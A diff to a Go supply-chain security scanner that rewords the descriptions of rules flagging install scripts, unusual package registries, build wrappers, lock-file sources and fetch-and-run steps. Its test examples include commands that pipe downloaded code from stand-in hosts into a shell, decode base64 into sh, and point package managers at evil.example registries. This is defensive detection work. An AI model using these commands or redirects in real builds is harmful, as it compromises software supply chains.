@@ -17,16 +17,16 @@ var (
 	installScript = &Rule{
 		ID: "umpire/build/install-script", Severity: finding.Low, CWE: "CWE-829",
 		Title:  "A script that runs when the package is installed",
-		Text:   "Package managers run this by themselves, with the rights of whoever installs. ",
+		Text:   "Package managers run this automatically, with the rights of the user who installs. ",
 		Remedy: "Install with scripts off, or read what it runs.",
 		Hits:   []Example{{"package.json", "{\"scripts\":{\"postinstall\":\"node x.js\"}}\n"}, {"setup.py", "import os\nos.system('curl https://e.example/x | sh')\n"}, {"composer.json", "{\"scripts\":{\"post-install-cmd\":[\"sh x\"]}}\n"}, {"build.rs", "fn main() { std::process::Command::new(\"curl\"); }\n"}},
 		Misses: []Example{{"package.json", "{\"scripts\":{\"test\":\"node x.js\"}}\n"}, {"setup.py", "from setuptools import setup\nsetup(name='x')\n"}, {"build.rs", "fn main() { println!(\"cargo:rerun-if-changed=x\"); }\n"}},
 	}
 	registry = &Rule{
 		ID: "umpire/build/registry", Severity: finding.Medium, CWE: "CWE-829",
-		Title:  "Packages come from another place than usual",
-		Text:   "The file makes a package manager take packages from a place of its own choice, for all or for some. ",
-		Remedy: "Check who runs that place, and that names cannot be taken over there.",
+		Title:  "Packages come from an unusual source",
+		Text:   "The file makes a package manager take all or some packages from a source that it names. ",
+		Remedy: "Check who runs that source, and that no one else can register the names there.",
 		Hits: []Example{{".npmrc", "registry=https://npm.evil.example/\n"}, {"requirements.txt", "--extra-index-url https://pypi.evil.example/simple\n"}, {".cargo/config.toml", "[source.crates-io]\nreplace-with = \"x\"\n"}, {"pip.conf", "[global]\nindex-url = http://pypi.evil.example\n"},
 			{"gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://evil.example/gradle-9.zip\n"}, {"nuget.config", "<add key=\"x\" value=\"http://evil.example/v3\"/>\n"}, {"Gemfile", "source 'http://evil.example'\n"},
 			{"settings.xml", "<mirror><url>http://evil.example</url></mirror>\n"}, {"pom.xml", "<repositories>\n<repository>\n<url>http://evil.example/m2</url>\n</repository>\n</repositories>\n"}},
@@ -36,24 +36,24 @@ var (
 	buildProgram = &Rule{
 		ID: "umpire/build/starts-program", Severity: finding.Medium, CWE: "CWE-829",
 		Title:  "A build setting names a program",
-		Text:   "The build starts this program in the place of, or around, its own tools. ",
+		Text:   "The build starts this program instead of its tools, or around them. ",
 		Remedy: "Read what it starts before you build.",
 		Hits:   []Example{{".cargo/config.toml", "[build]\nrustc-wrapper = \"./x\"\n"}, {".npmrc", "script-shell=./x\n"}},
 		Misses: []Example{{".cargo/config.toml", "[net]\nretry = 2\n"}},
 	}
 	lockSource = &Rule{
 		ID: "umpire/build/lock-source", Severity: finding.Medium, CWE: "CWE-494",
-		Title:  "A lock file takes a package from another place than the registry",
-		Text:   "Package managers install the entries of a lock file unchanged. Nobody reads such files, so attackers swap packages here. ",
-		Remedy: "Make the lock file anew from the manifest, and compare.",
+		Title:  "A lock file takes a package from outside the registry",
+		Text:   "Package managers install the entries of a lock file unchanged. People rarely read such files, so attackers swap packages here. ",
+		Remedy: "Regenerate the lock file from the manifest, and compare.",
 		Hits:   []Example{{"package-lock.json", "{\"packages\":{\"node_modules/x\":{\"resolved\":\"https://evil.example/x.tgz\"}}}\n"}, {"yarn.lock", "x@1:\n  resolved \"http://registry.npmjs.org/x/-/x-1.tgz\"\n"}, {"Cargo.lock", "source = \"git+https://evil.example/x?rev=1\"\n"}},
 		Misses: []Example{{"package-lock.json", "{\"packages\":{\"node_modules/x\":{\"resolved\":\"https://registry.npmjs.org/x/-/x-1.tgz\"}}}\n"}, {"Cargo.lock", "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n"}},
 	}
 	fetchAndRun = &Rule{
 		ID: "umpire/build/fetch-and-run", Severity: finding.Medium, CWE: "CWE-494",
-		Title:  "Something is fetched and run, or sent away",
-		Text:   "The build, the container or the script runs what it gets from the network or out of a decoder, opens a shell to another host, or sends private data away. ",
-		Remedy: "Pin what is fetched by its digest, and run nothing that nobody read.",
+		Title:  "A build step runs downloaded code or sends data",
+		Text:   "The build, the container or the script runs downloaded or decoded code, opens a shell to another host, or sends private data. ",
+		Remedy: "Pin downloads by their digest, and run only code that was reviewed.",
 		Hits: []Example{{"Dockerfile", "FROM x\nRUN apt-get update && \\\n  curl -s https://e.example/x | sh\n"}, {"Makefile", "all:\n\tcurl https://e.example/x | bash\n"}, {"x.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"},
 			{"Dockerfile", "FROM x\nADD --chmod=755 https://e.example/x.sh /opt/\nRUN sh /opt/x.sh\n"}, {"conftest.py", "import subprocess\nsubprocess.run('curl https://e.example/x | sh', shell=True)\n"},
 			{"vite.config.js", "require('child_process').execSync('curl https://e.example/x | sh')\n"}, {"Rakefile", "system('curl https://e.example/x | sh')\n"},
